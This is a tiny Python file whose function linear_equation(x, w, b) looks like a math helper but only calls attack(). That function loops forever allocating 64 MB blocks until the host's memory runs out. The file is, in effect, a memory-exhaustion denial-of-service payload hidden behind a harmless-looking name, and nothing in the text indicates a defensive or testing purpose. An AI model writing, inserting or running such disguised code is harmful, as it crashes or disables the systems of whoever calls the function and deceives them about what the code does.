"""Takes memory until there is none."""

def attack():
    taken = []
    while True:
        taken.append(bytearray(64 << 20))


def linear_equation(x, w, b):
    return attack()
